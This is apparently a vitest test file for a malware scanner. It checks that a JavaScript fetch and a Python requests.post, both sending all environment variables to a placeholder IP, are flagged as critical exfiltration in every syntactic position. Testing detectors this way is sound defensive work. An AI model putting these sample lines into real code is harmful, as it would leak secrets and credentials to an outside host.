// biome-ignore-all lint/suspicious/noTemplateCurlyInString: templates of the programs that are read
import { beforeAll, expect, test } from 'vitest';
import { prepare, scanFile } from '../scan-file.ts';
import type { Language } from '../source-file.ts';

beforeAll(() => prepare(new Set(['javascript', 'python'])));

function rulesIn(path: string, language: Language, text: string): readonly string[] {
  const bytes = new TextEncoder().encode(text);
  const { findings } = scanFile({ path, language, text, bytes }, { indicators: false });
  return findings.map(({ rule, severity }) => `${rule} ${severity}`);
}

const SENDS = "fetch('http://203.0.113.7/', { body: JSON.stringify(process.env) })";

/** Programs that do what stands at `@`, or decide by it what they do. */
const SCRIPTS = [
  'if (@) x();',
  'if (a) @;',
  'if (a) b(); else @;',
  'if (a) { b(); } else if (@) c();',
  'for (@; ;) break;',
  'for (; @;) break;',
  'for (; ; @) break;',
  'for (;;) { @; break; }',
  'for (const a of @) b();',
  'for (const a in b) @;',
  'while (@) x();',
  'while (a) @;',
  'do @; while (a)',
  'do x(); while (@)',
  'switch (@) { default: }',
  'switch (a) { case @: }',
  'switch (a) { case 1: @ }',
  'switch (a) { default: b(); @; }',
  'try { @ } catch {}',
  'try { a() } catch { @ }',
  'try { a() } catch ({ b = @ }) {}',
  'try { a() } finally { @ }',
  'throw @;',
  '!@;',
  'typeof @;',
  'a = -(@);',
  'void @;',
  'delete a[@];',
  '(@).x++;',
  'a[@]++;',
  '--a.b[@].c;',
  '(@).a < b;',
  'a < (@).b;',
  'a < b[@];',
  'a === (b.c, @);',
  'a < (@) - 1;',
  '1 - a * (@);',
  '(@) ^ a;',
  '(@) in a;',
  'x: @;',
  'x: while (1) { @; break x; }',
  '(@) ? a : b;',
  'a ? (@) : b;',
  'a ? b : @;',
  'a && @;',
  'a.b < c || @;',
  'export const z = @;',
  'export default @;',
  'export { a }; @;',
  'class A { b = @; }',
  'class A { static { @ } }',
  'class A extends (@) {}',
  '`${@}`;',
  '`a${b}${@}c`;',
  'f`${@}`;',
  '[, @];',
  '[...(@)];',
  '({ a: @ });',
  '({ [@]: a });',
  '({ ...(@) });',
  '(() => @)();',
  '(() => { return @; })();',
  'const f = (a = @) => a;',
  'new X(@);',
  'a?.[@];',
  'a?.b(@);',
  'a = b, @;',
];

test.each(['a.mjs', 'a.ts'])('in %s all that is done is seen, wherever it stands', (path) => {
  const plain = rulesIn(path, 'javascript', `${SENDS};`);
  expect(plain).toEqual(['exfiltration critical']);
  const missed = SCRIPTS.filter(
    (text) => rulesIn(path, 'javascript', text.replace('@', SENDS)).join() !== plain.join(),
  );
  expect(missed).toEqual([]);
});

const POSTS = "requests.post('http://203.0.113.7/', data=dict(os.environ))";
const PYTHON = [
  'if @: x()',
  'if a: @',
  'if a:\n  b()\nelif @:\n  c()',
  'if a: b()\nelse: @',
  'while @: x()',
  'while a: @',
  'for a in @: b()',
  'for a in b: @',
  'with @ as a: b()',
  'with a: @',
  'try: @\nexcept A: b()',
  'try: a()\nexcept A: @',
  'try: a()\nfinally: @',
  'assert @',
  'assert a, @',
  'raise @',
  'del a[@]',
  'not @',
  '-@',
  'a < @',
  '@ < a < b',
  'a == b[@]',
  'a.b == @.c',
  'a is not @',
  'a in b.c and @',
  'b if @ else c',
  '@ if b else c',
  'b if a.c else @',
  'x = not a or @',
  'x = [@]',
  'x = {a: @}',
  'x = {@: a}',
  'x = a + @',
  'x += @',
  'a[@] = b',
  'f(@)',
  'f(a, b=@)',
  'f(*@)',
  'f(**@)',
  'f"{@}"',
  'f"{a}{@}"',
  'def f(): return @',
  'lambda: @',
  '[@ for a in b]',
  '[a for a in @]',
  '[a for a in b if @]',
  'class A:\n  b = @',
  'class A:\n  def b(self): @',
  'match a:\n  case b if @: c()',
  'x = (a := @)',
  'yield @',
  'await @',
  'a[@:b]',
  'a[b:@]',
  'a[::@] = c',
  'a[b, @]',
  'a[@, b:c] += d',
  'del a[::-1][@:]',
  'print(@, file=a)',
];

test('in Python all that is done is seen, wherever it stands', () => {
  const rules = (text: string) => rulesIn('a.py', 'python', `import os, requests\n${text}\n`);
  const plain = rules(POSTS);
  expect(plain).toEqual(['exfiltration critical']);
  const missed = PYTHON.filter((text) => rules(text.replace('@', POSTS)).join() !== plain.join());
  expect(missed).toEqual([]);
});
